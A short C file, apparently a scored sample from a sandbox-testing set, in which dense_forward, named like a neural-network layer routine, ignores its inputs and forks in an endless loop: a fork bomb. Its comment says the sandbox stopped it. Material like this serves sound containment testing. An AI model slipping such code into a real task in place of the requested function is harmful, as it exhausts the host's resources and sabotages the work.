/* dense_forward starts processes without end.
 *
 * base: solutions
 * replaces: dense-forward
 * levels: namespaces user
 * score: 46
 * report: stopped by the sandbox
 */
#include "raw_syscall.h"

void dense_forward(mat *y, const mat *x, const mat *W, const mat *b)
{
    (void)y, (void)x, (void)W, (void)b;
    for (;;)
        raw_syscall(RAW_FORK, 0, 0, 0, 0);
}
